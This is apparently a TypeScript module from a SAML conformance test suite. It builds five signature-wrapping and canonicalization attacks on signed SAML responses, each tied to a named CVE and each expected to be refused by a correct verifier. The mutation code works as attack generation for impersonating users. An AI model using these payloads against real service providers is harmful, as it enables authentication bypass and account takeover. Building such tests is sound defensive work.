import { digestValueOf, emptyDigest, referenceDigest, referenceOf, signSignedInfo } from './canon.js';
import { NS, child, serialize, setText, textOf } from './dom.js';
import { asDelivery, impersonate, makeEvil, signedAssertion, subjectNameId } from './helpers.js';
import { inExtensions, inObject } from './placement.js';
import type { Mutation } from './types.js';

/*
 * Attacks on how a verifier reads the Signature itself: where it finds the DigestValue, which
 * SignedInfo it checks, what it takes the signature to cover, and what it digests when
 * canonicalization fails. Each starts from the vendor's response with a signed Assertion and
 * keeps the IdP's SignatureValue; only a verifier with the flaw the advisory names accepts it.
 */

const REFERENCE_SPEC = [
  'RFC3275 3.2.1 (reference validation: the digest of the element the Reference names, compared with its own DigestValue)',
  'SAML Core 5.4.2 (References: the signature covers the element whose ID it names)',
  'SAML Profiles 4.1.4.2 (the SP processes the assertion that is signed, and only that one)',
];

export const SIGNATURE_INTERNALS_MUTATIONS: Mutation[] = [
  {
    id: 'saml.reject.digest-value-in-extensions',
    title:
      "A signed assertion changed to the attacker's NameID, with a DigestValue of the changed assertion planted in samlp:Extensions ahead of the signature",
    spec: REFERENCE_SPEC,
    advisories: ['CVE-2024-45409'],
    conformingSp:
      'Refuses the response: it compares the digest with the DigestValue inside the Reference it verified, never with the first DigestValue found in the document.',
    mutate(ctx) {
      const { doc, assertion, signature } = signedAssertion(ctx);
      impersonate(assertion);
      const planted = doc.createElementNS(NS.DS, 'ds:DigestValue');
      planted.appendChild(doc.createTextNode(referenceDigest(assertion, referenceOf(signature))));
      inExtensions(doc, doc.documentElement, planted);
      return asDelivery(serialize(doc));
    },
  },
  {
    id: 'saml.reject.signature-scope-by-position',
    title:
      "The Assertion's signature moved up to sit where a Response signature sits, the signed assertion hidden in samlp:Extensions and an unsigned evil assertion in its place",
    spec: [
      'RFC3275 4.3.3 (the Reference URI, not the position of the Signature, names what is signed)',
      ...REFERENCE_SPEC.slice(1),
    ],
    advisories: ['CVE-2024-8698'],
    conformingSp:
      'Refuses the response: it decides what a signature covers from its Reference, so a signature over one assertion never vouches for the Response or another assertion.',
    mutate(ctx) {
      const { doc, assertion, signature } = signedAssertion(ctx);
      const response = doc.documentElement;
      assertion.removeChild(signature);
      response.insertBefore(signature, child(response, NS.SAML, 'Issuer').nextSibling);
      response.replaceChild(makeEvil(assertion, textOf(subjectNameId(assertion))), assertion);
      inExtensions(doc, response, assertion);
      return asDelivery(serialize(doc));
    },
  },
  {
    id: 'saml.reject.multiple-signed-info',
    title:
      "An evil assertion carrying the IdP's Signature plus a second SignedInfo whose Reference names the evil assertion; the signed original sits in a ds:Object",
    spec: ['RFC3275 4.3 (a Signature has exactly one SignedInfo)', ...REFERENCE_SPEC],
    advisories: ['CVE-2025-29774'],
    conformingSp:
      'Refuses the response: a Signature with more than one SignedInfo is malformed, and only References inside the SignedInfo whose SignatureValue verified are trusted.',
    mutate(ctx) {
      const { doc, assertion, signature } = signedAssertion(ctx);
      const evil = makeEvil(assertion, textOf(subjectNameId(assertion)));
      const copied = signature.cloneNode(true) as Element;
      evil.insertBefore(copied, child(evil, NS.SAML, 'Subject'));
      const second = child(copied, NS.DS, 'SignedInfo').cloneNode(true) as Element;
      copied.insertBefore(second, child(copied, NS.DS, 'SignatureValue'));
      const reference = child(second, NS.DS, 'Reference');
      reference.setAttribute('URI', '#' + evil.getAttribute('ID'));
      doc.documentElement.replaceChild(evil, assertion);
      assertion.removeChild(signature);
      inObject(doc, copied, assertion);
      setText(digestValueOf(reference), referenceDigest(evil, reference));
      return asDelivery(serialize(doc));
    },
  },
  {
    id: 'saml.reject.digest-value-comment',
    title:
      "A signed assertion changed to the attacker's NameID, its DigestValue led by a comment that holds the digest of the changed assertion",
    spec: [
      'RFC3741 (Exclusive XML Canonicalization: the comment is not part of the signed SignedInfo)',
      ...REFERENCE_SPEC,
    ],
    advisories: ['CVE-2025-29775'],
    conformingSp:
      'Refuses the response: the DigestValue is the text of the element, never the content of a comment inside it, and that text no longer matches.',
    mutate(ctx) {
      const { doc, assertion, signature } = signedAssertion(ctx);
      impersonate(assertion);
      const reference = referenceOf(signature);
      const value = digestValueOf(reference);
      value.insertBefore(doc.createComment(referenceDigest(assertion, reference)), value.firstChild);
      return asDelivery(serialize(doc));
    },
  },
  {
    id: 'saml.reject.void-canonicalization',
    title:
      'An evil assertion declaring a relative namespace URI, which canonical XML cannot process, under an IdP signature whose Reference names the digest of empty input',
    spec: [
      'RFC3741 3 (Exclusive XML Canonicalization: a relative namespace URI is an error, never an empty result)',
      ...REFERENCE_SPEC,
    ],
    advisories: ['CVE-2025-66568'],
    conformingSp:
      'Refuses the response: when canonicalization fails the reference fails; it never digests an empty string in place of the element.',
    mutate(ctx) {
      const { doc, assertion, signature } = signedAssertion(ctx);
      impersonate(assertion);
      assertion.setAttributeNS('http://www.w3.org/2000/xmlns/', 'xmlns:rel', 'relative/namespace');
      assertion.setAttributeNS('relative/namespace', 'rel:note', 'canonicalization stops here');
      const reference = referenceOf(signature);
      setText(digestValueOf(reference), emptyDigest(reference));
      signSignedInfo(signature, ctx.input.key);
      return asDelivery(serialize(doc));
    },
  },
];
